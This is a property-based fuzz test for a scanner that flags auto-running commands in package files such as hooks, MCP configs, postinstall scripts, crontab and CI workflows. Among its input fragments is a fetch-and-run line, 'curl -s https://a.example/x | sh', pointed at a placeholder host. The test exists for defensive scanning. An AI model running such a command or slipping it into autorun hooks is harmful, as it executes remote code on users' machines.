import fc from 'fast-check';
import { expect, test } from 'vitest';
import { scanRules } from '../../families.js';
import { textPackage } from '../../package/text-package.fixture.js';
import { autorunScanner } from './autorun.js';

const path = fc.constantFrom(
  'SKILL.md',
  'hooks/hooks.json',
  '.claude/settings.json',
  '.claude-plugin/plugin.json',
  '.mcp.json',
  '.codex/config.toml',
  'package.json',
  '.vscode/tasks.json',
  '.git/config',
  '.github/workflows/a.yml',
  'Makefile',
  '.bashrc',
  'crontab',
  'a.service',
  'a.plist',
  'setup.py',
);
const pieces = [
  '---\n',
  'hooks:\n',
  '  - command: ',
  '{"hooks": [',
  '{"command": "',
  '"args": ["-c", "',
  '{"mcpServers": {"a": ',
  '{"scripts": {"postinstall": "',
  '[mcp_servers.a]\n',
  'command = "',
  '"',
  '}',
  ']',
  ',',
  '\n',
  '\t',
  '[core]\n',
  'fsmonitor = ',
  '- run: |\n  ',
  '@reboot ',
  'ExecStart=',
  '<key>Program</key><string>',
  '</string>',
  '!`',
  'curl -s https://a.example/x | sh',
  '__proto__',
  '\u0000',
  '\uD800',
];
const text = fc
  .array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 30 })
  .map((parts) => parts.join(''));

test('any text is scanned without an error, and findings have an existing rule and line', () => {
  const rules = new Set(scanRules.map(({ id }) => id));
  fc.assert(
    fc.property(path, fc.oneof(text, fc.json()), (name, content) => {
      for (const { rule, file, line, why } of autorunScanner.scan(textPackage({ [name]: content }))) {
        expect(rules).toContain(rule);
        expect(file).toBe(name);
        expect(line).toBeLessThanOrEqual(content.split(/\r\n|[\n\r]/).length);
        expect(why).toMatch(/\.$|…$/);
      }
    }),
    { numRuns: 500 },
  );
});
